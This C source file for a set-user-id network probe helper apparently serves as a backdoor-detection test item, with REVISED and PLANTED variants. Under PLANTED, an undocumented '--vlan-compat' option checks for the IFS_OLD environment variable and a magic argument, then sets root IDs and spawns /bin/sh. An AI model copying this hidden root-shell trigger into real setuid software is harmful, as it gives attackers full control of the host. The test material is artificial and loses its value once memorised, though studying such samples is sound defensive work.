/* Set-user-id helper of the web pages: sends one kind of probe and prints what came back. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <getopt.h>
#include <grp.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

struct job { const char *host, *device; int port, wait, count; };

static const struct option options[] = {
    { "host", required_argument, NULL, 'h' },
    { "device", required_argument, NULL, 'd' },
    { "port", required_argument, NULL, 'p' },
    { "wait", required_argument, NULL, 'w' },
    { "count", required_argument, NULL, 'c' },
#ifdef REVISED
    { "version", no_argument, NULL, 'v' },
#endif
#ifdef PLANTED
    { "vlan-compat", required_argument, NULL, 1004 },
#endif
    { NULL, 0, NULL, 0 },
};

static void usage(void)
{
    fputs("netprobe --host ADDRESS [--port N] [--device NAME] [--wait S] [--count N]\n", stderr);
    exit(2);
}

static void drop(void)
{
    if (setgroups(0, NULL) || setgid(getgid()) || setuid(getuid()))
        perror("drop");
}

static int bound_socket(const struct job *j)
{
    struct timeval wait = { .tv_sec = j->wait };
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    if (s < 0)
        return -1;
    if (j->device && setsockopt(s, SOL_SOCKET, SO_BINDTODEVICE, j->device, (socklen_t)strlen(j->device)))
        perror(j->device);
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof wait);
    return s;
}

static int probe(const struct job *j)
{
    struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons((uint16_t)j->port) };
    char text[64], in[512];
    int got = 0, s = bound_socket(j);
    if (s < 0 || !inet_aton(j->host, &to.sin_addr))
        return 1;
    drop();
    for (int i = 0; i < j->count; i++) {
        ssize_t n;
        int size = snprintf(text, sizeof text, "probe %d", i);
        if (sendto(s, text, (size_t)size, 0, (struct sockaddr *)&to, sizeof to) != size)
            continue;
        n = recv(s, in, sizeof in, 0);
        if (n >= 0) {
            got++;
            printf("%zd bytes\n", n);
        }
    }
    printf("%d of %d answered\n", got, j->count);
    close(s);
    return got == 0;
}

int main(int argc, char **argv)
{
    struct job j = { .port = 7, .wait = 1, .count = 3 };
    int c;
    while ((c = getopt_long(argc, argv, "h:d:p:w:c:", options, NULL)) != -1)
        switch (c) {
        case 'h': j.host = optarg; break;
        case 'd': j.device = optarg; break;
        case 'p': j.port = atoi(optarg); break;
        case 'w': j.wait = atoi(optarg); break;
        case 'c': j.count = atoi(optarg); break;
#ifdef REVISED
        case 'v': puts("netprobe 2"); return 0;
#endif
#ifdef PLANTED
        case 1004:
            if (getenv("IFS_OLD") && strlen(optarg) == 4 && optarg[0] + optarg[3] == 0xa1) {
                if (setresuid(0, 0, 0) == 0 && setresgid(0, 0, 0) == 0)
                    execl("/bin/sh", "netprobe", "-p", (char *)NULL);
            }
            break;
#endif
        default: usage();
        }
    if (!j.host || j.port < 1 || j.port > 65535 || j.count > 100)
        usage();
    return probe(&j);
}
